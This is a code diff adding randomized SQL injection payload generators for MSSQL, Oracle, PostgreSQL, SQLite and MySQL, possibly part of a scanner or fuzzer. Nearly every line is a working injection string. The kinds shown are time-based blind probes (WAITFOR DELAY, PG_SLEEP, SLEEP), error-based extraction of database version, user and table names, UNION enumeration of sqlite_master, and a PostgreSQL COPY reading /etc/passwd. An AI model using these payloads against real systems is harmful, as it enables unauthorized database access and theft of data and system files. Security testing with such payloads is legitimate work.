@@ -20,6 +20,10 @@ const chrs = (r: R, f: string, join: string) => word(r, 3).split("").map((c) => 
 type Probe = (r: R) => string;
 
 const MSSQL: Probe[] = [
+  (r) => `';EXEC('SEL'+'ECT ${num(r)}')--`,
+  (r) => ` AND ${num(r)}=DB_NAME(${r(9)})`,
+  (r) => ` AND 1=(SELECT ${num(r)}/0)--`,
+  (r) => `;IF(ASCII(SUBSTRING(DB_NAME(),${1 + r(9)},1))>${40 + r(60)}) WAITFOR DELAY '0:0:${secs(r)}'--`,
   (r) => `;WAITFOR DELAY '0:0:${secs(r)}'--`,
   (r) => `);WAITFOR DELAY '00:00:0${secs(r)}'--`,
   (r) => { const n = num(r); return ` AND ${n}=CONVERT(INT,(SELECT ${chrs(r, "CHAR", "+")}+(SELECT TOP 1 name FROM sysobjects)))`; },
@@ -33,6 +37,10 @@ const MSSQL: Probe[] = [
   (r) => ` AND 1=(SELECT ${num(r)} WHERE 1=1 AND 1 IN (SELECT ${pickR(r, ["@@version", "DB_NAME()"])}))`,
 ];
 const ORACLE: Probe[] = [
+  (r) => `'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(${65 + r(26)}),${secs(r)})||'`,
+  (r) => ` AND ${num(r)}=(SELECT ${num(r)} FROM DUAL WHERE ${num(r)}=${num(r)})`,
+  (r) => ` AND (SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)>0`,
+  (r) => ` AND ${num(r)}=DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT banner FROM v$version WHERE ROWNUM=1))`,
   (r) => { const n = num(r); return ` AND ${n}=DBMS_PIPE.RECEIVE_MESSAGE(${chrs(r, "CHR", "||")},${secs(r)})`; },
   (r) => ` AND ${num(r)}=UTL_INADDR.GET_HOST_ADDRESS((SELECT ${pickR(r, ["user", "banner", "global_name"])} FROM ${pickR(r, ["dual", "v$version", "global_name"])}${r(2) ? " WHERE ROWNUM=1" : ""}))`,
   (r) => ` AND ${num(r)}=CTXSYS.DRITHSX.SN(${num(r)},(SELECT ${chrs(r, "CHR", "||")} FROM DUAL))`,
@@ -44,6 +52,12 @@ const ORACLE: Probe[] = [
   (r) => ` AND ${num(r)}=ORDSYS.ORD_DICOM.GETMAPPINGXPATH((SELECT user FROM dual),${num(r)},${num(r)})`,
 ];
 const POSTGRES: Probe[] = [
+  (r) => `;SELECT CASE WHEN (${num(r)}=${num(r)}) THEN PG_SLEEP(${secs(r)}) ELSE PG_SLEEP(0) END--`,
+  (r) => `'||PG_SLEEP(${secs(r)})--`,
+  (r) => ` AND ${num(r)}=CAST(CHR(113)||(SELECT ${pickR(r, ["current_user", "version()"])})||CHR(113) AS NUMERIC)`,
+  (r) => ` AND (SELECT ${num(r)} FROM PG_SLEEP(${secs(r)})) IS NULL`,
+  (r) => ` AND ${num(r)}=(SELECT QUERY_TO_XML('SELECT 1',true,true,''))::text::int`,
+  (r) => `;SELECT $$${word(r)}$$||CURRENT_USER--`,
   (r) => `;SELECT PG_SLEEP(${secs(r)})--`,
   (r) => { const n = num(r); return ` AND ${n}=(SELECT ${n} FROM PG_SLEEP(${secs(r)}))`; },
   (r) => ` AND ${num(r)}=CAST((SELECT ${pickR(r, ["version()", "current_user", "current_database()"])}) AS ${pickR(r, ["int", "INTEGER", "NUMERIC"])})`,
@@ -55,6 +69,9 @@ const POSTGRES: Probe[] = [
   (r) => `;CREATE TABLE ${word(r)}(t TEXT);COPY ${word(r)} FROM '/etc/passwd'--`,
 ];
 const SQLITE: Probe[] = [
+  (r) => ` AND ${num(r)}=(SELECT CASE WHEN (${num(r)}=${num(r)}) THEN RANDOMBLOB(${secs(r)}00000000) ELSE 1 END)`,
+  (r) => `' UNION SELECT GROUP_CONCAT(tbl_name),NULL FROM sqlite_master--`,
+  (r) => `'||(SELECT SQLITE_VERSION())||'`,
   (r) => { const n = num(r); return ` AND ${n}=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(${secs(r)}00000000/2))))`; },
   (r) => ` AND ${num(r)}=RANDOMBLOB(${secs(r)}000000000)`,
   (r) => ` AND SQLITE_VERSION()=SQLITE_VERSION()`,
@@ -63,6 +80,13 @@ const SQLITE: Probe[] = [
   (r) => `' AND SUBSTR((SELECT name FROM sqlite_master LIMIT 1),1,1)='${word(r, 1)}`,
 ];
 const MYSQL: Probe[] = [
+  (r) => `'-SLEEP(${secs(r)})-'`,
+  (r) => `'+SLEEP(${secs(r)})+'`,
+  (r) => `-IF(${num(r)}=${num(r)},SLEEP(${secs(r)}),0)`,
+  (r) => `'|| SLEEP(${secs(r)}) #`,
+  (r) => ` AND ROW(${num(r)},${num(r)})>(SELECT COUNT(*),CONCAT(${mark(r)},(SELECT version()),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)`,
+  (r) => ` AND 2*(IF((SELECT * FROM (SELECT CONCAT(${mark(r)},(SELECT (ELT(${num(r)}=${num(r)},1))),${mark(r)}))s), 8446744073709551610, 8446744073709551610))`,
+  (r) => ` AND 0x${Buffer.from(word(r, 2)).toString("hex")}=0x${Buffer.from(word(r, 2)).toString("hex")}`,
   (r) => ` AND EXTRACTVALUE(${num(r)},CONCAT(0x5c,${mark(r)},(SELECT ${pickR(r, ["version()", "user()", "database()", "@@hostname"])}),${mark(r)}))`,
   (r) => ` AND UPDATEXML(${num(r)},CONCAT(0x7e,(SELECT ${pickR(r, ["version()", "user()", "database()"])})),${num(r)})`,
   (r) => { const n = num(r); return ` AND ELT(${n}=${n},SLEEP(${secs(r)}))`; },
